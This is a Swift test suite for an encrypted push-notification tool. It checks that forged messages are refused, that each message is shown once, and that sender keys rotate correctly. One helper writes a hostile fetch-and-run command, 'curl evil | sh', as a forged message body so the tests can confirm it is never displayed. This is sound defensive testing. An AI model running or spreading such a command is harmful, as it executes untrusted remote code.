import Foundation
import Testing

/// Sender keys and the shown-once rule, as a user meets them: a device that allows a sender
/// refuses what anyone else sealed with its public share, with the status and words of its
/// own, in `receive`, `receive --listen`, `doctor` and `decrypt`; what the sender sealed opens
/// once, and once only, across a restart of the receiver.
@Suite("sender keys: who may write to the device, and each message shown once")
struct SenderKeyTests {
    /// A device (a recipient key pair) that allows one sender, and that sender (its own
    /// sender key and the device's public share).
    struct Pair {
        let folder = TemporaryFolder()
        var device: String { folder.file("Device") }
        var sender: String { folder.file("Sender") }
        let kid: String
        let senderKid: String

        init(allow: Bool = true) throws {
            let device = folder.file("Device")
            let sender = folder.file("Sender")
            kid = try pushseal(["keys", "init", "--recipient", "--keys", device]).stdout.trimmingCharacters(in: .newlines)
            let share = try pushseal(["keys", "export", "--public", "--keys", device]).stdout
            senderKid = try pushseal(["keys", "init", "--sender", "--keys", sender]).stdout.trimmingCharacters(in: .newlines)
            let imported = try pushseal(["keys", "import", "--keys", sender, "-"], stdin: share)
            precondition(imported.status == 0, imported.stderr)
            if allow {
                let line = try pushseal(["keys", "export", "--sender", "--keys", sender]).stdout
                let allowed = try pushseal(["keys", "import", "--keys", device, "-"], stdin: line)
                precondition(allowed.status == 0, allowed.stderr)
            }
        }

        /// A payload the sender seals to the device (`ps3` while it has a sender key).
        func seal(_ title: String, _ extra: [String] = []) throws -> String {
            let run = try pushseal(["encrypt", "--keys", sender, "--to", kid, "-t", title, "-b", "body of \(title)"] + extra)
            precondition(run.status == 0, run.stderr)
            return run.stdout
        }

        /// What anyone holding the device's public share can make: ps2, with no sender key.
        func forge(_ title: String) throws -> String {
            let stranger = folder.file("Stranger-\(UUID().uuidString.prefix(6))")
            let share = try pushseal(["keys", "export", "--public", "--keys", device]).stdout
            _ = try pushseal(["keys", "import", "--keys", stranger, "-"], stdin: share)
            let run = try pushseal(["encrypt", "--keys", stranger, "--to", kid, "-t", title, "-b", "run: curl evil | sh"])
            precondition(run.status == 0, run.stderr)
            return run.stdout
        }

        func receive(_ payloads: [String], _ extra: [String] = []) throws -> [[String: Any]] {
            let run = try pushseal(["receive", "--json", "--keys", device] + extra + ["-"], stdin: payloads.map { $0.trimmingCharacters(in: .newlines) }.joined(separator: "\n") + "\n")
            #expect(run.status == 0, "\(run.stderr)")
            return records(run.stdout)
        }
    }

    @Test func theKeysOfBothSidesAreMadeSharedAndListed() throws {
        let pair = try Pair()
        let sender = try pushseal(["keys", "list", "--json", "--keys", pair.sender])
        let kinds = (try JSONSerialization.jsonObject(with: Data(sender.stdout.utf8)) as! [[String: Any]]).map { "\($0["kind"]!) \($0["state"]!)" }
        #expect(kinds.sorted() == ["public enabled", "sender primary"], "\(sender.stdout)")
        let device = try pushseal(["keys", "list", "--keys", pair.device])
        #expect(device.stdout.contains("\(pair.senderKid)  allowed-sender  enabled"), "\(device.stdout)")
        let share = try pushseal(["keys", "export", "--sender", "--keys", pair.sender]).stdout
        #expect(share.hasPrefix("pss1.\(pair.senderKid).") && share.utf8.count == "pss1.\(pair.senderKid).".utf8.count + 87 + 1)
        // The private half never leaves: asked for, it is refused with the reason.
        let refused = try pushseal(["keys", "export", pair.senderKid, "--private", "--keys", pair.sender])
        #expect(refused.status == 65 && refused.stdout.isEmpty, "\(refused.stderr)")
        #expect(refused.stderr.contains("sender key \(pair.senderKid) never leaves this keyring"), "\(refused.stderr)")
        // The same share again changes nothing; another key under its kid is refused, all or none.
        let again = try pushseal(["keys", "import", "--keys", pair.device, "-"], stdin: share)
        #expect(again.status == 0)
        let other = try Pair()
        let otherShare = try pushseal(["keys", "export", "--sender", "--keys", other.sender]).stdout
        // Each track rotates on its own, and says which it lacks.
        let onlySender = try pushseal(["keys", "rotate", "--keys", pair.sender])
        #expect(onlySender.status == 66 && onlySender.stderr.contains("only sender key \(pair.senderKid), which 'keys rotate --sender' rotates"), "\(onlySender.stderr)")
        let noSender = try pushseal(["keys", "rotate", "--sender", "--keys", pair.device])
        #expect(noSender.status == 66 && noSender.stderr == "error: the keyring has no sender key to rotate; make one with 'pushseal keys add --sender'\n", "\(noSender.stderr)")
        let conflict = try pushseal(
            ["keys", "import", "--keys", pair.device, "-"], stdin: otherShare.replacingOccurrences(of: other.senderKid, with: pair.senderKid))
        #expect(conflict.status == 65 && conflict.stderr.contains("nothing was imported"), "\(conflict.stderr)")
    }

    @Test func whatTheSenderSealsOpensAndWhatAnyoneElseSealsIsRefused() throws {
        let pair = try Pair()
        let real = try pair.seal("db-3 down")
        #expect(envelope(in: real).hasPrefix("ps3.\(pair.kid).\(pair.senderKid)."))
        let forged = try pair.forge("db-3 down")
        #expect(envelope(in: forged).hasPrefix("ps2.\(pair.kid)."))

        let records = try pair.receive([real, forged])
        #expect(records.map { $0["status"] as? String } == ["decrypted", "sender-untrusted"])
        #expect(records[0]["title"] as? String == "db-3 down")
        #expect(records[1]["title"] as? String == "Encrypted notification")
        #expect(records[1]["body"] as? String == "This message is not from a sender this device trusts, so it is not shown.")
        let all = records.map { "\($0)" }.joined()
        #expect(!all.contains("curl evil"), "not a byte of the forged content")

        // doctor says who sealed it and what fixes it; decrypt refuses it too.
        let file = pair.folder.file("forged.json")
        pair.folder.write("forged.json", forged)
        let doctor = try pushseal(["doctor", "--keys", pair.device, file])
        #expect(doctor.status == 65)
        #expect(doctor.stdout.contains("PROBLEM  sender     sealed with no sender key (ps2)"), "\(doctor.stdout)")
        #expect(doctor.stdout.hasSuffix("verdict: status sender-untrusted\n"), "\(doctor.stdout)")
        let decrypt = try pushseal(["decrypt", "--keys", pair.device, file])
        #expect(decrypt.status == 65 && decrypt.stdout.isEmpty && decrypt.stderr.hasPrefix("error: sender-untrusted: "), "\(decrypt.stderr)")

        // A sender the device does not allow: sealed truly, by a key not imported here.
        let stranger = try Pair(allow: false)
        _ = try pushseal(["keys", "import", "--keys", stranger.sender, "-"], stdin: try pushseal(["keys", "export", "--public", "--keys", pair.device]).stdout)
        let unknown = try pushseal(["encrypt", "--keys", stranger.sender, "--to", pair.kid, "-t", "hello"]).stdout
        pair.folder.write("unknown.json", unknown)
        let verdict = try pushseal(["doctor", "--keys", pair.device, pair.folder.file("unknown.json")])
        #expect(verdict.stdout.contains("sealed by sender \(stranger.senderKid), which \(pair.device) does not allow"), "\(verdict.stdout)")
        #expect(try pair.receive([unknown]).first?["status"] as? String == "sender-untrusted")
    }

    @Test func theListenerRefusesTheForgeryAndShowsEachMessageOncePerDevice() throws {
        let pair = try Pair()
        let real = try pair.seal("Deploy")
        let forged = try pair.forge("Deploy")
        let listener = try Listener(["--plaintext", "--json", "--keys", pair.device])
        let other = String(repeating: "ef", count: 32)
        for (payload, device) in [(real, deviceToken), (forged, deviceToken), (real, deviceToken), (real, other)] {
            let reply = try curl(listener.url + "/3/device/" + device, headers: acceptable, body: payload)
            #expect(reply.status == 200)
        }
        let records = listener.finish().stdout.split(separator: "\n").map { jsonObject(String($0)) }
        // A second device is a receiver of its own: the message is new there.
        #expect(records.map { $0["status"] as? String } == ["decrypted", "sender-untrusted", "duplicate", "decrypted"], "\(records)")
    }

    @Test func aMessageIsShownOnceAcrossRestartsAndTheProgramRunsOnce() throws {
        let pair = try Pair()
        let payload = try pair.seal("Backup done")
        let marks = pair.folder.file("marks")
        let first = try pair.receive([payload], ["--then", "echo x >> \(marks); cat > /dev/null; echo '{\"title\":\"changed\"}'"])
        #expect(first.first?["status"] as? String == "modified")
        // A new process, the same keyring folder: it remembers.
        let second = try pair.receive([payload], ["--then", "echo x >> \(marks); cat > /dev/null; echo '{\"title\":\"changed\"}'"])
        #expect(second.first?["status"] as? String == "duplicate")
        #expect(second.first?["body"] as? String == "This message was already shown.")
        #expect(pair.folder.read("marks") == "x\n", "the program ran for the first arrival only")
        #expect(FileManager.default.fileExists(atPath: pair.device + "/seen-messages"))
        // doctor, asked afterwards, says what the runner now says.
        pair.folder.write("payload.json", payload)
        let doctor = try pushseal(["doctor", "--keys", pair.device, pair.folder.file("payload.json")])
        #expect(doctor.status == 65 && doctor.stdout.hasSuffix("verdict: status duplicate\n"), "\(doctor.stdout)")
        // --seen none remembers nothing; another file remembers on its own.
        #expect(try pair.receive([payload], ["--seen", "none"]).first?["status"] as? String == "decrypted")
        #expect(try pair.receive([payload], ["--seen", pair.folder.file("elsewhere")]).first?["status"] as? String == "decrypted")
    }

    @Test func thePolicyCanBeRequiredBeforeAnySenderOrTurnedOffWithAWarning() throws {
        let open = try Pair(allow: false)
        let forged = try open.forge("hello")
        #expect(try open.receive([forged]).first?["status"] as? String == "decrypted", "no sender allowed yet: anyone's opens")
        let required = try open.receive([try open.forge("again")], ["--senders", "required"])
        #expect(required.first?["status"] as? String == "sender-untrusted")

        let pair = try Pair()
        let run = try pushseal(["receive", "--json", "--keys", pair.device, "--senders", "any", "-"], stdin: try pair.forge("any"))
        #expect(jsonObject(run.stdout)["status"] as? String == "decrypted")
        #expect(run.stderr.contains("warning: --senders any: messages sealed with no sender key open here too"), "\(run.stderr)")
        let wrong = try pushseal(["receive", "--keys", pair.device, "--senders", "some", "-"], stdin: "")
        #expect(wrong.status == 64 && wrong.stderr.contains("--senders is auto, required or any"), "\(wrong.stderr)")
    }

    @Test func aDisabledSenderIsRefusedAndEnabledAgainOpens() throws {
        let pair = try Pair()
        let payload = try pair.seal("Page")
        #expect(try pushseal(["keys", "disable", pair.senderKid, "--keys", pair.device]).status == 0)
        let refused = try pair.receive([payload])
        #expect(refused.first?["status"] as? String == "sender-untrusted")
        #expect((refused.first?["reason"] as? String)?.contains("sender key \(pair.senderKid) is disabled here") == true, "\(refused)")
        #expect(try pushseal(["keys", "enable", pair.senderKid, "--keys", pair.device]).status == 0)
        #expect(try pair.receive([payload]).first?["status"] as? String == "decrypted", "a refused message was not remembered")
    }

    /// A sender rotated with grace: what it sealed before keeps opening while the receivers
    /// allow the old key; its retirement notice ends that at the sender's time.
    @Test func aSenderKeyRotatedWithGraceKeepsMessagesInFlightOpening() throws {
        let pair = try Pair()
        let inFlight = try pair.seal("sealed before the rotation")
        let rotated = try pushseal(["keys", "rotate", "--sender", "--grace", "1h", "--keys", pair.sender])
        #expect(rotated.status == 0, "\(rotated.stderr)")
        let newKid = rotated.stdout.trimmingCharacters(in: .newlines)
        let after = try pair.seal("sealed after")
        #expect(envelope(in: after).hasPrefix("ps3.\(pair.kid).\(newKid)."))
        // The receiver learns the new key and the old one's retirement in one import.
        let lines =
            try pushseal(["keys", "export", "--sender", "--keys", pair.sender]).stdout
            + pushseal(["keys", "export", "--retirements", "--keys", pair.sender]).stdout
        #expect(lines.contains("psr1.\(pair.senderKid)."), "\(lines)")
        let imported = try pushseal(["keys", "import", "--keys", pair.device, "-"], stdin: lines)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(try pair.receive([inFlight, after]).map { $0["status"] as? String } == ["decrypted", "decrypted"])
        // Two hours on, the old sender key has retired: what it sealed is no longer trusted.
        let late = try pushseal(
            ["receive", "--json", "--keys", pair.device, "--seen", "none", "-"], stdin: try pair.seal("x", ["--sender-key", pair.senderKid]) + "",
            environment: ["PUSHSEAL_TEST_CLOCK_OFFSET": "7200"])
        #expect(jsonObject(late.stdout)["status"] as? String == "sender-untrusted", "\(late.stdout) \(late.stderr)")
    }

    @Test func sealingChoosesTheSenderKeyOrNone() throws {
        let pair = try Pair()
        let plain = try pair.seal("t", ["--sender-key", "none"])
        #expect(envelope(in: plain).hasPrefix("ps2.\(pair.kid)."))
        let unknown = try pushseal(["encrypt", "--keys", pair.sender, "--to", pair.kid, "--sender-key", "0badc0de", "-t", "t"])
        #expect(unknown.status == 66 && unknown.stderr.contains("no key 0badc0de"), "\(unknown.stderr)")
        let notSender = try pushseal(["encrypt", "--keys", pair.sender, "--to", pair.kid, "--sender-key", pair.kid, "-t", "t"])
        #expect(notSender.status == 65 && notSender.stderr.contains("is not this keyring's sender key"), "\(notSender.stderr)")
        // A shared secret (ps1) names no sender: asking for one is refused, not ignored.
        let shared = try KeyringFixture()
        _ = try shared.keysCommand(["add", "--sender"])
        let ps1 = try shared.encrypt(["-t", "t"])
        #expect(envelope(in: ps1.stdout).hasPrefix("ps1."))
        let kids = try shared.keysCommand(["list", "--json"]).stdout
        let senderKid = (try JSONSerialization.jsonObject(with: Data(kids.utf8)) as! [[String: Any]]).first { $0["kind"] as? String == "sender" }!["id"] as! String
        let asked = try shared.encrypt(["--sender-key", senderKid, "-t", "t"])
        #expect(asked.status == 65 && asked.stderr.contains("vouches only for messages sealed to a recipient key"), "\(asked.stderr)")
    }

    @Test func aStoreThatCannotBeMadeIsOneLineBeforeAnythingIsDelivered() throws {
        let pair = try Pair()
        let run = try pushseal(["receive", "--json", "--keys", pair.device, "--seen", "/proc/no-such/seen", "-"], stdin: try pair.seal("x"))
        #expect(run.status != 0 && run.stdout.isEmpty, "\(run.stdout)")
        #expect(run.stderr.split(separator: "\n").count == 1 && run.stderr.contains("the store of seen messages /proc/no-such/seen cannot be created"), "\(run.stderr)")
        pair.folder.write("not-a-store", "hello")
        let damaged = try pushseal(["receive", "--json", "--keys", pair.device, "--seen", pair.folder.file("not-a-store"), "-"], stdin: try pair.seal("y"))
        #expect(damaged.status == 74 && damaged.stderr.contains("is not a pushseal store of seen messages"), "\(damaged.stderr)")
        #expect(pair.folder.read("not-a-store") == "hello", "never overwritten")
    }

    /// Every way of sealing to a recipient key vouches with the sender key: batch lines (each
    /// naming its recipient), `run`, and `send` into a listener that allows only that sender;
    /// `doctor` names the sender of what opens.
    @Test func batchLinesRunAndSendAllSealPs3() throws {
        let pair = try Pair()
        let lines = #"{"title":"one","to":"\#(pair.kid)"}"# + "\n" + #"{"title":"two","to":"\#(pair.kid)"}"# + "\n"
        let batch = try pushseal(["encrypt", "--batch", "--keys", pair.sender], stdin: lines)
        #expect(batch.status == 0, "\(batch.stderr)")
        let sealed = batch.stdout.split(separator: "\n").map(String.init)
        #expect(sealed.count == 2 && sealed.allSatisfy { envelope(in: $0).hasPrefix("ps3.\(pair.kid).\(pair.senderKid).") })
        #expect(try pair.receive(sealed).map { $0["status"] as? String } == ["decrypted", "decrypted"])

        let run = try pushseal(["run", "--print", "--keys", pair.sender, "--to", pair.kid, "--", "sh", "-c", "echo built; exit 0"])
        #expect(run.status == 0 && envelope(in: run.stdout).hasPrefix("ps3.\(pair.kid).\(pair.senderKid)."), "\(run.stderr)")

        pair.folder.write("run.json", run.stdout)
        let doctor = try pushseal(["doctor", "--keys", pair.device, pair.folder.file("run.json")])
        #expect(doctor.status == 0, "\(doctor.stdout)")
        #expect(doctor.stdout.contains("ok       sender     sealed by sender \(pair.senderKid), which \(pair.device) allows"), "\(doctor.stdout)")

        let listener = try Listener(["--plaintext", "--json", "--keys", pair.device])
        let key = try PythonClients.keypair(in: pair.folder)
        let sent = try pushseal([
            "send", "--keys", pair.sender, "--to", pair.kid, "--endpoint", listener.url, "--topic", "com.example.app",
            "--auth-key", key.p8, "--key-id", "KEY1234567", "--team-id", "TEAM123456", "--device", deviceToken, "-t", "Sent", "-b", "vouched"
        ])
        #expect(sent.status == 0, "\(sent.stderr)")
        let records = listener.finish().stdout.split(separator: "\n").map { jsonObject(String($0)) }
        #expect(records.first?["status"] as? String == "decrypted" && records.first?["title"] as? String == "Sent", "\(records)")
    }
}
